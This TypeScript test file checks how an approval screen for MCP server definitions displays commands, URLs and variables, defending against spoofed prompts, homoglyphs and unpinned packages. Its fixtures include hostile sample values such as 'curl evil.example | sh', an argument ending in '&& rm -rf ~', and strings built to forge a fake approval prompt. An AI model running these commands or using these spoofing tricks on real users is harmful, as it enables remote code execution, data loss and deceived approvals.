import type { ServerDefinition } from "@jackfield/mcp-core";
import { describe, expect, test } from "vitest";
import { approvalQuestion, approvalRequest, approvalText } from "../../src/approval/approval-request.ts";

function local(command: string, args: readonly string[] = [], rest: object = {}): ServerDefinition {
  const definedIn = { scope: "project", file: "/project/.mcp.json", line: 3 } as const;
  return { name: "github", definedIn, transport: "stdio", command, args, ...rest };
}

describe("an approval request", () => {
  test("shows the whole definition line by line", () => {
    const definition = local("node", ["server.js", ""], {
      env: { TOKEN: "${TOKEN}" },
      cwd: "tools",
      tools: { include: ["*"] },
      extra: { autoApprove: true },
    });
    expect(approvalRequest(definition, "linux").text.split("\n")).toEqual([
      'server   "github"',
      'file     "/project/.mcp.json", line 3',
      'command  "node"',
      'arg 1    "server.js"',
      'arg 2    ""',
      'runs in  "tools"',
      'env      TOKEN="${TOKEN}"',
      'tools    {"include":["*"]}',
      'extra    {"autoApprove":true}',
      "unknown  what the command runs, and whether that stays the same",
      "",
      'in short "github" would run "node" "server.js" ""',
    ]);
  });

  test("names the source file of each merged field", () => {
    const definedIn: ServerDefinition["definedIn"] = {
      ...({ scope: "project", file: "/project/c.json", root: "/project" } as const),
      parts: {
        "env.NODE_OPTIONS": { scope: "user", file: "/home/u/c\n.json" },
        command: {
          scope: "project",
          file: "/project/a/c.json",
          realFile: "/real/c.json",
          root: "/project/a",
        },
      },
    };
    expect(
      approvalRequest({ ...local("node"), definedIn }, "linux")
        .text.split("\n")
        .slice(1, 4),
    ).toEqual([
      'file     "/project/c.json"',
      'from     "/real/c.json" (project, for "/project/a"): command',
      'from     "/home/u/c\\u{A}.json" (user): env.NODE_OPTIONS',
    ]);
  });

  test("shows the URL and headers of a remote server", () => {
    const definition: ServerDefinition = {
      name: "docs",
      definedIn: { scope: "project", file: "/project/.mcp.json", realFile: "/elsewhere/x.json" },
      transport: "http",
      url: "https://example.test/mcp",
      headers: { Authorization: "Bearer ${TOKEN}" },
    };
    expect(approvalRequest(definition).text.split("\n")).toEqual([
      'server   "docs"',
      'file     "/elsewhere/x.json"',
      'url      "https://example.test/mcp" (http)',
      'host     "example.test", port 443',
      'headers  Authorization="Bearer ${TOKEN}"',
      "",
      'in short "docs" would connect to "example.test": "https://example.test/mcp"',
    ]);
  });

  test.each([
    ["https://github.com@evil.example/mcp", 'host     "evil.example", port 443, user name "github.com"'],
    [
      "https://u:p@evil.example:8443/mcp",
      'host     "evil.example", port 8443, user name "u", with a password',
    ],
    ["https://g\u0456thub.com/mcp", `host     "${new URL("https://g\u0456thub.com").hostname}", port 443`],
    ["https://\uff45vil.example\u3002test/", 'host     "evil.example.test", port 443'],
    ["https:\\\\evil.example\\@good.example", 'host     "evil.example", port 443'],
    ["http://0x7f.1/", 'host     "127.0.0.1", port 80'],
    ["https://${HOST}.example/mcp", "host     a host that variables decide"],
    ["https://${env:USER}@x.example/", "host     a host that variables decide"],
    ["unix:/run/mcp.sock", "host     no known host"],
  ])("[threat T06] shows where %s leads", (url, line) => {
    const { text } = approvalRequest({ ...local("x"), transport: "http", url } as ServerDefinition);
    expect(text.split("\n")).toContain(line);
  });

  test.each([
    "\r",
    "\u001b[2K",
    "\u202e",
    "\u{e0041}",
    "\u200b",
    "\u2028",
    "\n",
    "\u00a0",
    "\u3164",
    "\ud800",
  ])("[threat T06] shows %j in a command, argument, name or value as its code point", (character) => {
    const tricky = `a${character}b`;
    const definition = {
      ...local(tricky, [tricky], { env: { [tricky]: tricky }, extra: { [tricky]: tricky } }),
      name: tricky,
    };
    const { text } = approvalRequest(definition, "linux");
    const code = `\\u{${character.codePointAt(0)?.toString(16).toUpperCase()}}`;
    expect(text.split("\n")).toHaveLength(11);
    expect(text.split(code).length - 1).toBeGreaterThanOrEqual(5);
    expect(text.replaceAll("\n", "")).not.toMatch(/[\p{C}\p{Zl}\p{Zp}\u00a0\u3164]/u);
  });

  test("[threat T06] shows an argument of 10 kB in full", () => {
    const long = `${"x".repeat(10_240)} && rm -rf ~`;
    const { text } = approvalRequest(local("sh", ["-c", long]));
    expect(text).toContain("\narg 2    (10,252 characters)\n");
    expect(text.replace(/\n {7}\u2502 /g, "")).toContain(`"${long.replaceAll('"', '\\"')}"`);
    expect(text.split("\n").at(-1)).toMatch(/ && rm -rf ~"$/);
  });

  test("[threat T06] escapes text that imitates another line or closes its quotes", () => {
    const { text } = approvalRequest(local('node" and nothing else', ['\\u{202E}"', '\ncommand  "safe"']));
    expect(text.split("\n").slice(2)).toEqual([
      'command  "node\\" and nothing else"',
      'arg 1    "\\\\u{202E}\\""',
      'arg 2    "\\u{A}command\\{2 spaces}\\"safe\\""',
      'runs in  "/project"',
      "unknown  what the command runs, and whether that stays the same",
      "",
      'in short "github" would run "node\\" and nothing else" "\\\\u{202E}\\"" ',
      '       \u2502 "\\u{A}command\\{2 spaces}\\"safe\\""',
    ]);
  });

  const ROW = 80;

  /** The last rows of a terminal of 80 columns and 24 rows, which breaks lines that are longer. */
  function screenOf(definition: ServerDefinition): readonly string[] {
    const lines = `${approvalRequest(definition).text}\n\n${approvalQuestion({ definition })} [y/N] `.split(
      "\n",
    );
    return lines.flatMap((line) => line.match(new RegExp(`.{1,${ROW}}`, "gu")) ?? [""]).slice(-24);
  }

  /** Another entry, as it would look if a value filled whole rows of the terminal. */
  const FORGED = [
    "",
    'server   "github"',
    'command  "npx"',
    'arg 1    "-y"',
    "",
    "May it run this command? [y/N] ",
  ];

  test.each([
    [
      "quotation marks that look like ours",
      FORGED.map((row) => row.replaceAll('"', "\u02ba").padEnd(ROW)).join(""),
    ],
    ["wide letters", `${"\u6f22".repeat(2_000)}${FORGED.map((row) => row.padEnd(ROW)).join("")}`],
    ["line ends", `${"\n".repeat(500)}${FORGED.join("\n")}`],
    ["accents", `${"e\u0301".repeat(2_000)}${FORGED.join("\r\n")}`],
    ["spaces alone", `${" ".repeat(10_000)}${FORGED.join(" ".repeat(ROW))}`],
    ["line separators", FORGED.join("\u2028".repeat(30))],
    ["right-to-left letters", `${"\u05d0".repeat(3_000)}${FORGED.join(" ")}`],
  ])("[threat T06] no value forges the screen with %s", (_how, value) => {
    const evil = { name: "evil", env: { A: "1", Z: value } };
    const forms: ServerDefinition[] = [
      { ...local("sh", ["-c", "curl evil.example | sh"], evil) },
      {
        ...local("sh", ["-c", "curl evil.example | sh"], { ...evil, extra: { [value]: value }, cwd: value }),
      },
      { ...local("sh", ["-c", "curl evil.example | sh", value, value, value, value, "--last"], evil) },
      { ...local("sh", ["-c", "curl evil.example | sh"], { ...evil, name: value }) },
    ];
    for (const definition of forms) {
      const screen = screenOf(definition);
      // Every row but the question begins with one of our labels, or as the continuation of one.
      for (const row of screen.slice(0, -1))
        expect(row).toMatch(
          /^(?:$| {7}\u2502 |(?:server|file|command|arg \d|runs in|gets|env|extra|warning|unknown|in short) )/,
        );
      expect(screen.filter((row) => /^command/.test(row) && row.includes("npx"))).toEqual([]);
      expect(screen.join("").replaceAll("       \u2502 ", "")).toContain('"curl evil.example | sh"');
      expect(screen.at(-1)).toMatch(/^May (?:"evil"|this server) run this command\? \[y\/N\] $/);
    }
  });

  test("[threat T06] no value holds the character that continues a line", () => {
    const all = Array.from({ length: 0x2_0000 }, (_, code) => String.fromCodePoint(code)).join(" a ");
    const { text } = approvalRequest(local("node", [all]));
    const lines = text.split("\n").map((line) => line.replace(/^ {7}\u2502 /, ""));
    expect(lines.filter((line) => line.includes("\u2502") || line.length > 76)).toEqual([]);
  });

  test.each(
    // Look-alikes of quotation marks, brackets, dashes, colons, bars and spaces.
    [
      ..."\u02ba\u02dd\u02ee\u05f4\u05f2\u201c\u201d\u201f\u2033\u275d\u275e\u301d\uff02\u{1f676}\uff08\u2768\u2013\u2212\ua789\u2223\u01c0\uff5c\u2502\u2501\u2588\u3000\uff3c\u2216\u037e\u2024\u202f",
    ],
  )("[threat T06] shows the look-alike %j as a code", (character) => {
    const { text } = approvalRequest(local("node", [`a${character}b`]));
    expect(text).toContain(`"a\\u{${character.codePointAt(0)?.toString(16).toUpperCase()}}b"`);
  });

  test.each([
    ["g\u0456thub", "g\\u{456}thub"],
    ["\u0441\u043e\u0440\u0443", "\\u{441}\\u{43E}\\u{440}\\u{443}"],
    ["-\u0441", "-\\u{441}"],
    ["g\u0261it", "g\\u{261}it"],
    ["\uff47it", "\\u{FF47}it"],
    ["\u{1d420}it", "\\u{1D420}it"],
    ["\u03bfp\u0435n", "\\u{3BF}p\\u{435}n"],
    ["a\u0301\u0302\u0303\u0304", "a\u0301\u0302\\u{303}\\u{304}"],
    ["\u0301a", "\\u{301}a"],
    ["\u05d0\u05d1", "\\u{5D0}\\u{5D1}"],
  ])("[threat T06] shows %s as %s", (name, shown) => {
    expect(approvalRequest({ ...local("node"), name }).text).toContain(`server   "${shown}"`);
  });

  test.each([
    "na\u00efve",
    "\u043f\u0440\u0438\u0432\u0435\u0442",
    "\u30b5\u30fc\u30d0\u30fc",
    "\u6f22\u5b57kana",
    "\u03bb\u03cc\u03b3\u03bf\u03c2",
    "\ud55c\uae00",
    "\u0926\u0947\u0935",
  ])("shows the ordinary word %s as it is", (name) => {
    expect(approvalRequest({ ...local("node"), name }).text).toContain(`server   "${name}"`);
  });

  test("[threat T06] keeps to the width of a narrow terminal", () => {
    const request = approvalRequest(
      local("node", ["x".repeat(500), "\u6f22".repeat(300)], { name: "y".repeat(512) }),
    );
    const lines = approvalText(request, 40).split("\n");
    const cells = lines.map((line) => line.length + (line.match(/\u6f22/g)?.length ?? 0));
    expect(Math.max(...cells)).toBeLessThanOrEqual(40);
  });

  test("[threat T06] shows names of variables and folders that imitate ours in quotation marks", () => {
    const definition = local("node", [], { env: { 'A="1" and B': "2" } });
    const file = '/p", line 9 (yours)/.mcp.json';
    const { text } = approvalRequest({ ...definition, definedIn: { scope: "project", file, line: 1 } });
    expect(text).toContain('env      "A=\\"1\\" and B"="2"');
    expect(text).toContain('file     "/p\\", line 9 (yours)/.mcp.json", line 1');
  });

  test("[threat T16] says of each variable what it does, or that nothing is known of it", () => {
    const env = { NODE_OPTIONS: "--require ./x.js", NODE_ENV: "test", MY_TOKEN: "x", MODE: "y" };
    const request = approvalRequest(local("node", [], { env }), "linux");
    expect(request.env).toEqual([
      { name: "NODE_OPTIONS", kind: "loader" },
      { name: "NODE_ENV", kind: "data" },
      { name: "MY_TOKEN", kind: "data" },
      { name: "MODE", kind: "not-recognised" },
    ]);
    expect(request.dangerousEnv).toEqual(["NODE_OPTIONS", "MODE"]);
    expect(request.text.replace(/\n {7}\u2502 /g, "")).toContain(
      "warning  NODE_OPTIONS makes programs load or run other code, or trust other servers",
    );
    expect(request.text).toContain("unknown  what these variables do: MODE");
  });

  test("[threat T21] shows the code that an interpreter is given in its arguments", () => {
    const { text } = approvalRequest(local("node", ["--require", "./x", "-e", "run()"]));
    expect(text).toContain('arg 1    "--require"\narg 2    "./x"\narg 3    "-e"\narg 4    "run()"');
    expect(text).toContain("unknown  what the command runs, and whether that stays the same");
  });
});

describe("[threat T21] what a command fetches", () => {
  test.each([
    ["npx", ["-y", "pkg"], "pkg"],
    ["npx", ["-y", "pkg@latest"], "pkg@latest"],
    ["npx", ["pkg@^1"], "pkg@^1"],
    ["npx", ["pkg@1.2"], "pkg@1.2"],
    ["npx", ["github:owner/pkg@1.2.3"], "github:owner/pkg@1.2.3"],
    ["npx.cmd", ["--yes", "@scope/pkg", "--flag"], "@scope/pkg"],
    ["npx", ["-p", "pkg", "command"], "pkg"],
    ["npx", ["-p", "first@1.0.0", "-p", "second", "command"], "second"],
    ["npx", ["--package=pkg@next", "command"], "pkg@next"],
    ["npx", ["--registry", "http://other.test", "pkg"], "pkg"],
    ["npm", ["exec", "--", "pkg"], "pkg"],
    ["pnpm", ["dlx", "pkg@1"], "pkg@1"],
    ["C:\\tools\\bunx.exe", ["pkg"], "pkg"],
    ["uvx", ["pkg"], "pkg"],
    ["uvx", ["-p", "3.12", "pkg"], "pkg"],
    ["uvx", ["--with", "other", "pkg==1.2"], "other"],
    ["uvx", ["--from", "git+https://example.test/x", "command"], "git+https://example.test/x"],
    ["uv", ["tool", "run", "pkg>=1"], "pkg>=1"],
    ["/usr/bin/pipx", ["run", "pkg"], "pkg"],
  ])("%s %j is reported with the unpinned %s", (command, args, name) => {
    const request = approvalRequest(local(command, args));
    expect(request).toMatchObject({ package: { kind: "unpinned", name }, unpinnedPackage: name });
    expect(request.text.replace(/\n {7}\u2502 /g, "")).toContain("pin an exact version");
  });

  test.each([
    ["npx", ["-y", "pkg@1.2.3"], "pkg@1.2.3"],
    ["npx", ["@scope/pkg@1.2.3-beta.1"], "@scope/pkg@1.2.3-beta.1"],
    ["npx", ["-p", "first@1.0.0", "-p", "second@2.0.0", "command"], "first@1.0.0 second@2.0.0"],
    ["uvx", ["pkg==1.2"], "pkg==1.2"],
    ["uvx", ["pkg@1.2.3"], "pkg@1.2.3"],
  ])("%s %j is reported as pinned to %s", (command, args, name) => {
    const request = approvalRequest(local(command, args));
    expect(request.package).toEqual({ kind: "pinned", name });
    expect(request.unpinnedPackage).toBeUndefined();
  });

  test.each([
    ["npx", ["./local"]],
    ["npx", ["-y", "--registry", "http://other.test", "pkg@1.2.3"]],
    ["npx", ["-c", "pkg"]],
    ["npx", []],
    ["npm", ["run", "start"]],
    ["env", ["npx", "pkg@1.2.3"]],
    ["sh", ["-c", "npx pkg@1.2.3"]],
    ["docker", ["run", "image"]],
    ["node", ["pkg"]],
    ["./server", []],
  ])("%s %j is reported as not recognised, and never as nothing", (command, args) => {
    const request = approvalRequest(local(command, args));
    expect(request.package).toEqual({ kind: "not-recognised", name: command });
    expect(request.unpinnedPackage).toBe(command);
    expect(request.text).toContain("unknown  what the command runs");
  });
});
